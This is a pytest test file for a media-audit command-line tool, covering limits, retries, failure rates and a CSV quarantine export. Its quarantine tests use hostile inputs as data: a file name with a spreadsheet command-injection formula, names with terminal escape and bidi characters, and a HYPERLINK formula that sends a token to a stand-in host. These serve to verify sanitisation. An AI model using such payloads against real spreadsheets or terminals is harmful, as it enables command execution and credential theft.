"""Limits, retries, the failure rate and the quarantine as a user meets them, in whole audits."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import tarfile
from pathlib import Path

import pytest

from deephotlink.models.detectors import metadata
from deephotlink.pipelines import cli, jobs
from deephotlink.pipelines.outputs.check import check_output
from deephotlink.pipelines.outputs.quarantine import COLUMNS, to_csv
from deephotlink.pipelines.outputs.query import run_query
from deephotlink.transforms import commit
from deephotlink.transforms.failures import ERROR_CLASSES, WorldError
from tests.builders import make_video


@pytest.fixture(scope="module")
def media(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("media")
    make_video(folder / "short.mp4", seconds=1, fps=10)
    make_video(folder / "long.mp4", seconds=4, fps=10)
    (folder / "broken.mp4").write_bytes((folder / "short.mp4").read_bytes()[:200])
    return folder


@pytest.fixture
def archive(media, tmp_path) -> Path:
    return Path(shutil.copytree(media, tmp_path / "archive"))


def audit(source: Path, out: Path, *options: str) -> int:
    small = ["--detectors", "metadata", "--unit-size", "1", "--wave-size", "8", "--quiet"]
    return cli.main(["audit", *options, str(source), "--output", str(out), *small])


def failures(out: Path) -> dict[str, tuple[str, int]]:
    """Of the newest row of each failed file: class and attempts."""
    sql = "select uri, error_class, attempts from failures order by run_id"
    rows = run_query(str(out), sql).to_pylist()
    return {Path(row["uri"]).name: (row["error_class"], row["attempts"]) for row in rows}


def newest_run(out: Path) -> dict:
    newest = max(out.glob("_runs/*/run.json"), key=lambda path: path.parent.name)
    return json.loads(newest.read_text())


def test_a_limit_a_retry_and_the_rate_of_failures(archive, tmp_path, capsys):
    out = tmp_path / "out"
    low = ("--max-duration", "2", "--max-failure-rate", "0.5")
    assert audit(archive, out, *low) == cli.MANY_FAILED == jobs.MANY_FAILED
    said = capsys.readouterr().err
    assert said == "deephotlink: 66.7% of the files failed, more than --max-failure-rate=0.5\n"
    assert failures(out) == {"long.mp4": ("too_large", 1), "broken.mp4": ("unreadable", 1)}
    message = run_query(str(out), "select message from failures where error_class = 'too_large'").to_pylist()
    assert message == [{"message": "4 s long: at most 2 s are allowed"}]
    settings = newest_run(out)["settings"]
    assert settings["limits"]["max_duration_seconds"] == 2 and settings["limits"]["max_bytes"] == 64 << 30
    # published all the same; and asked again, when nothing is left to do, it does not say that all is well
    assert check_output(str(out)) == [] and run_query(str(out), "select 1 from scores").num_rows == 1
    assert audit(archive, out, *low) == cli.MANY_FAILED and len(list(out.glob("_runs/*/summary.json"))) == 1
    assert audit(archive, out, "--max-duration", "2", "--max-failure-rate", "0.7") == cli.DONE

    # the limit is no part of the fingerprint: what it kept out is looked at, what is scored is not scored again
    assert audit(archive, out, "--retry-failures=too_large") == cli.DONE
    retry = newest_run(out)
    assert (retry["kind"], retry["planned"], retry["settings"]["retry_failures"]) == ("retry", 1, ["too_large"])
    assert run_query(str(out), "select uri from to_retry").to_pylist() == [{"uri": str(archive / "broken.mp4")}]

    # the plain form takes no source for its classes
    assert audit(archive, out, "--retry-failures") == cli.DONE
    assert newest_run(out)["planned"] == 1 and failures(out)["broken.mp4"] == ("unreadable", 2)
    assert audit(archive, out, "--retry-failures=missing,unreadable") == cli.DONE
    assert failures(out)["broken.mp4"] == ("unreadable", 3)
    runs = len(list(out.glob("_runs/*/summary.json")))
    assert audit(archive, out, "--retry-failures=worker_killed") == cli.DONE
    assert len(list(out.glob("_runs/*/summary.json"))) == runs and check_output(str(out)) == []


def test_a_retry_that_was_cut_short_is_finished_and_not_begun_again(archive, tmp_path, monkeypatch):
    out = tmp_path / "out"
    for number in range(2):
        shutil.copy(archive / "broken.mp4", archive / f"broken{number}.mp4")
    assert audit(archive, out) == cli.DONE
    real, done = commit.commit_unit, []

    def put(*arguments):
        if done:
            raise WorldError("no space left")
        done.append(1)
        return real(*arguments)

    with monkeypatch.context() as patch:
        patch.setattr(commit, "commit_unit", put)
        assert audit(archive, out, "--retry-failures") == cli.AGAIN
    assert len(done) == 1
    assert audit(archive, out, "--retry-failures") == cli.DONE
    assert set(failures(out).values()) == {("unreadable", 2)} and len(failures(out)) == 3
    assert len(list(out.glob("_runs/*/summary.json"))) == 2 and check_output(str(out)) == []


def test_items_on_which_a_detector_raised_are_asked_again(archive, tmp_path, monkeypatch, capsys):
    out = tmp_path / "out"
    (archive / "broken.mp4").unlink()
    real = metadata.MetadataDetector.score

    def score(self, items):
        if any(item.facts["duration_seconds"] > 2 for item in items):
            raise ValueError("=not this one")
        return real(self, items)

    with monkeypatch.context() as patch:
        patch.setattr(metadata.MetadataDetector, "score", score)
        assert audit(archive, out) == cli.BROKEN
        assert audit(archive, out) == cli.DONE  # nothing is left to do
        left = run_query(str(out), "select uri, stage, error_class, message, attempts, size_bytes from to_retry")
        (row,) = left.to_pylist()
        assert row["uri"] == str(archive / "long.mp4") and "=not this one" in row["message"]
        assert (row["stage"], row["error_class"], row["attempts"]) == ("detect", "detector_error", 1)
        assert row["size_bytes"] == (archive / "long.mp4").stat().st_size
        assert audit(archive, out, "--retry-failures=unreadable") == cli.DONE and newest_run(out)["kind"] == "audit"
        assert audit(archive, out, "--retry-failures") == cli.BROKEN
    assert run_query(str(out), "select attempts from to_retry").to_pylist() == [{"attempts": 2}]
    assert audit(archive, out, "--retry-failures=detector_error") == cli.DONE
    assert newest_run(out)["planned"] == 1 and check_output(str(out)) == []
    assert run_query(str(out), "select * from to_retry").num_rows == 0
    latest = "select count(*) as n from timeline where abstained = 'detector_error'"
    assert run_query(str(out), latest).to_pylist() == [{"n": 0}]


@pytest.mark.parametrize(
    ("option", "says"),
    [
        ("--retry-failures=too_larg", ["'too_larg'", *ERROR_CLASSES]),
        ("--max-failure-rate=1.5", ["--max-failure-rate"]),
        ("--max-bytes=64X", ["--max-bytes", "64G"]),
        ("--max-streams=5000", ["--max-streams", "1000"]),
        ("--max-ratio=0", ["--max-ratio"]),
        ("--max-duration=0", ["--max-duration"]),
    ],
)
def test_what_cannot_be_meant_is_one_line(option, says, archive, tmp_path, capsys):
    assert audit(archive, tmp_path / "out", option) == cli.USAGE
    said = capsys.readouterr().err
    assert len(said.splitlines()) == 1 and all(word in said for word in says)
    assert not (tmp_path / "out" / "_runs").exists()


def test_the_quarantine_can_be_handed_to_someone_and_audited(archive, tmp_path, capsys):
    out, again, listing = tmp_path / "out", tmp_path / "again", tmp_path / "hand" / "over.csv"
    broken = (archive / "broken.mp4").read_bytes()
    (archive / "=cmd|'x'!A1, \"q\".mp4").write_bytes(broken)
    (archive / "a\nb\x1b]0;\u202ec\\x41.mp4").write_bytes(broken)
    with open(os.path.join(os.fsencode(archive), b"\xff\xfe.mp4"), "wb") as file:
        file.write(broken)
    with tarfile.open(archive / "shard.tar", "w") as tar:
        for name in ("one.mp4", "two.mp4", "two.mp4"):
            info = tarfile.TarInfo(name)
            info.size = len(broken)
            tar.addfile(info, io.BytesIO(broken))
    assert audit(archive, out, "--max-duration", "2") == cli.DONE
    capsys.readouterr()
    assert cli.main(["quarantine", str(out), "--output", str(listing)]) == cli.DONE
    assert capsys.readouterr().out == f"{listing}: 8 files in quarantine: 1 too_large, 7 unreadable\n"
    text = listing.read_text(encoding="utf-8")
    assert text.replace("\n", "").isprintable()
    rows = list(csv.DictReader(text.splitlines()))
    assert tuple(rows[0]) == COLUMNS and not any(cell[:1] in ("=", "+", "-", "@") for r in rows for cell in r.values())
    sizes = {row["uri"]: int(row["size_bytes"]) for row in rows}
    assert sizes[str(archive / "broken.mp4")] == 200 and all(row["attempts"] == "1" for row in rows)
    assert all(row["failed_at"].endswith("Z") and row["message"] for row in rows)

    assert cli.main(["quarantine", str(out), "--class", "too_large"]) == cli.DONE
    (only,) = csv.DictReader(capsys.readouterr().out.splitlines())
    assert only["uri"] == str(archive / "long.mp4") and only["message"] == "4 s long: at most 2 s are allowed"
    assert cli.main(["quarantine", str(out), "--output", str(tmp_path / "x.txt")]) == cli.USAGE
    assert ".csv" in capsys.readouterr().err

    assert audit(listing, again, "--max-duration", "2") == cli.DONE
    ids = "select media_id, uri, error_class from failures order by media_id"
    assert run_query(str(again), ids).to_pylist() == run_query(str(out), ids).to_pylist()
    (archive / "broken.mp4").unlink()
    (archive / "shard.tar").unlink()
    assert audit(listing, tmp_path / "third") == cli.DONE  # one row a name, whatever became of it
    counts = "select error_class, count(*) as n from failures group by 1 order by 1"
    assert run_query(str(tmp_path / "third"), counts).to_pylist() == [
        {"error_class": "missing", "n": 3},
        {"error_class": "unreadable", "n": 3},
    ]


def test_a_listing_for_a_spreadsheet_has_no_formula_and_no_secret():
    row = dict.fromkeys(COLUMNS, "")
    told = '=HYPERLINK("http://h/?token=CANARY")\x1b[2J\n+1 https://me:CANARY@h/a?sig=CANARY'
    text = to_csv([{**row, "uri": "/a.mp4", "message": told, "error_class": "@x", "stage": "-1", "attempts": None}])
    (cells,) = csv.DictReader(text.splitlines())
    assert cells["message"].startswith("'=HYPERLINK") and "CANARY" not in text and "\x1b" not in text
    assert (cells["error_class"], cells["stage"], cells["attempts"], cells["uri"]) == ("'@x", "'-1", "", "/a.mp4")
